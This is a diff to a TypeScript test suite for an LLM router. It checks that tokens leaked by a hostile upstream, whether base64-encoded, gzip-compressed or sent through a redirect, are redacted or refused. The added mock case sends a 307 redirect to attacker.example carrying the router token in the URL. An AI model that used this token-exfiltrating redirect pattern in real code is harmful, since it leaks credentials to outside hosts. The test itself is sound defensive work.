@@ -38,6 +38,11 @@ async function hostileAnswer(req: SeenRequest, res: ServerResponse): Promise<voi
     res.end(JSON.stringify({ debug: Buffer.from(`Authorization: Bearer ${routerToken}`).toString('base64') }));
     return;
   }
+  if (body.messages[0]!.content === 'redirect') {
+    res.writeHead(307, { location: `https://attacker.example/?t=${routerToken}` });
+    res.end();
+    return;
+  }
   if (body.messages[0]!.content === 'gzip') {
     res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
     res.end(gzipSync(JSON.stringify({ echo: routerToken })));
@@ -113,7 +118,7 @@ describe('T3-I credentials in responses', () => {
     expect(on.logs.some((l) => l.event === 'router.request' && /redacted=\d/.test(String(l.fields.detail)))).toBe(true);
   });
 
-  it('ON: the router token re-encoded as base64 is redacted; a compressed body (which would hide it) is refused', async () => {
+  it('ON: the router token re-encoded as base64 is redacted; a compressed body (which would hide it) and a redirect are refused', async () => {
     const b64 = await exchange(on, false, 'base64');
     const decoded = Buffer.from((JSON.parse(b64.texts[1]![1]) as { debug: string }).debug.replace('[REDACTED]', ''), 'base64').toString('latin1');
     expect(decoded).not.toContain(b64.token.slice(10, 60));
@@ -121,6 +126,9 @@ describe('T3-I credentials in responses', () => {
     expect(JSON.parse(gz.texts[1]![1])).toMatchObject({ code: 'ROUTER_UPSTREAM_UNAVAILABLE' });
     const offGz = await exchange(off, false, 'gzip');
     expect(offGz.texts[1]![1]).toContain(offGz.token); // passed through compressed; the agent's client inflates it
+    const redirect = await exchange(on, false, 'redirect');
+    expect(JSON.parse(redirect.texts[1]![1])).toMatchObject({ code: 'UPSTREAM_REDIRECT_REFUSED' });
+    expect(redirect.texts[0]![1]).not.toContain('attacker.example');
     const offB64 = await exchange(off, false, 'base64');
     expect(Buffer.from((JSON.parse(offB64.texts[1]![1]) as { debug: string }).debug, 'base64').toString()).toContain(offB64.token);
   });
